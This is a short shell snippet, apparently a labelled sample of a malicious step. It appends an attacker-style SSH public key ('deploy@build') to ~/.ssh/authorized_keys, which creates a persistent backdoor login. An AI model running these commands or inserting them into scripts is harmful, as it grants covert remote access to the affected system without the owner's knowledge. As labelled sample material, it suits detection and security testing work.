# malicious: adds a key of its own
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBb0 deploy@build" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
